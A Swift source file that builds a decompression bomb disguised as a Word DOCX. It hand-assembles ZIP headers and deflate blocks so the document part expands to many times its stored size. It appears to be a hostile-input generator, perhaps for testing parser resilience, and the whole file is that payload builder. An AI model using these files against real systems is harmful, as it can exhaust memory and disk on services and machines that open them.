import Foundation

/// A DOCX file whose main part unpacks to a thousand times its size (APPNOTE.TXT of PKWARE, §4.3).
struct ZipBomb {
    private var body = Data()
    private var directory = Data()

    /// - Parameter units: of 4 MiB each.
    static func docx(units: Int) -> Data {
        let office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"
        let relations = """
            <Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">\
            <Relationship Id="r" Type="\(office)" Target="word/document.xml"/></Relationships>
            """
        // One stored block of Deflate, then zeros: `units` times 4 MiB in 4 kB.
        let length = UInt16(relations.utf8.count)
        let stored = [1, UInt8(length & 255), UInt8(length >> 8), ~UInt8(length & 255), ~UInt8(length >> 8)]
        let head: [UInt8] = [0xec, 0xc1, 1, 1, 0, 0, 0, 0x82, 0x20, 0xff, 0xaf, 0x6e, 0x48, 0x40, 1]
        let tail: [UInt8] = [0x7c, 0x1b, 0, 0, 0, 0xff, 0xff]
        let unit = head + [UInt8](repeating: 0, count: 4063) + tail
        var zip = ZipBomb()
        zip.add(
            "_rels/.rels", Data(stored) + Data(relations.utf8), size: Int(length),
            checksum: crc32(Data(relations.utf8)))
        zip.add("word/document.xml", Data((0..<units).flatMap { _ in unit } + [3, 0]), size: units << 22)
        return zip.finish()
    }

    private mutating func add(_ name: String, _ deflated: Data, size: Int, checksum: UInt32 = 0) {
        var fields = Data()
        for value in [20, 0, 8, 0, 0] as [UInt16] { fields.append(little: value) }
        for value in [checksum, UInt32(deflated.count), UInt32(size)] { fields.append(little: value) }
        fields.append(little: UInt16(name.utf8.count))
        fields.append(little: UInt16(0))
        directory.append(little: UInt32(0x0201_4b50))
        directory.append(little: UInt16(20))
        directory.append(fields)
        directory.append(Data(count: 10))
        directory.append(little: UInt32(body.count))
        directory.append(Data(name.utf8))
        body.append(little: UInt32(0x0403_4b50))
        body.append(fields)
        body.append(Data(name.utf8))
        body.append(deflated)
    }

    private static func crc32(_ bytes: Data) -> UInt32 {
        ~bytes.reduce(0xFFFF_FFFF) { sum, byte in
            (0..<8).reduce(sum ^ UInt32(byte)) { sum, _ in sum & 1 == 1 ? sum >> 1 ^ 0xEDB8_8320 : sum >> 1 }
        }
    }

    private func finish() -> Data {
        var end = Data()
        for value in [0x0605_4b50, 0] as [UInt32] { end.append(little: value) }
        for value in [2, 2] as [UInt16] { end.append(little: value) }
        for value in [UInt32(directory.count), UInt32(body.count)] { end.append(little: value) }
        end.append(little: UInt16(0))
        return body + directory + end
    }
}

extension Data {
    fileprivate mutating func append(little number: some FixedWidthInteger) {
        Swift.withUnsafeBytes(of: number.littleEndian) { append(contentsOf: $0) }
    }
}
